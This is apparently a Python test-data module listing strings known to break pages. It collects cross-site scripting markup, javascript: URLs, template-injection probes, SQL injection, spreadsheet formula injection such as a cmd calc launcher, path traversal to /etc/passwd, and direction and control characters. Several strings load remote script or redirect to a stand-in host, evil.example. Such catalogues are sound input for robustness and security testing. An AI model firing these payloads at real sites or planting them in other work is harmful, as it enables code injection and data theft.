"""Strings that have broken pages elsewhere: markup, scripts, templates, SQL, formulas, paths, control and direction characters."""

from __future__ import annotations

_MARKUP = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil.example/x.js>", "<script\n>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src='x'onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "</style><script>alert(1)</script>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<button onclick=alert(1)>x", "<form action=javascript:alert(1)><input type=submit>", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "</mark></p></div><script>alert(1)</script>", "<div style=position:fixed;inset:0;background:red>", "<p style='behavior:url(x)'>", "<table background=javascript:alert(1)>",
]  # fmt: skip
_ATTRIBUTES = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "` onmouseover=`alert(1)", '" hx-get="//evil.example" hx-trigger="load', "' hx-on::load='alert(1)",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" href="javascript:alert(1)', '" style="display:none', "&quot; onclick=&quot;alert(1)", "&#34; onclick=&#34;alert(1)",
]  # fmt: skip
_SCRIPTS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "javascript://example.org/%0aalert(1)",
    "file:///etc/passwd", "//evil.example/x", "https://evil.example/\"onclick=alert(1)", "http://[::1", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)", "'-alert(1)-'", '";alert(1);//', "');alert(1);//",
    "</script><!--", "<!--<script>", "\u2028alert(1)\u2029", "${alert(1)}", "`${alert(1)}`", "constructor.constructor('alert(1)')()",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}",
    "{%if 1%}x{%endif%}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%7B%7B7*7%7D%7D",
    "${{7*7}}",
]
_OTHERS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "' OR 1=1 --", "'; DROP TABLE ev; --", "\" OR \"\"=\"", "%' AND 1=0 UNION SELECT * FROM stamp --",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "\u202egnp.exe", "\u2066\u2069\u200b\u200e\u200f\ufeff", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\x08\x08\x08b",
    "\x7f\x80\x9b31m", "e" + "\u0301" * 60, "\U000e0041\U000e0042", "ﷺ" * 40, "\ufff9\ufffa\ufffb", "<" * 200, "&" * 200, '"' * 200, "\\" * 50, "%00", "NaN", "null", "undefined", "__proto__", "constructor",
]  # fmt: skip
STRINGS = [*_MARKUP, *_ATTRIBUTES, *_SCRIPTS, *_TEMPLATES, *_OTHERS]
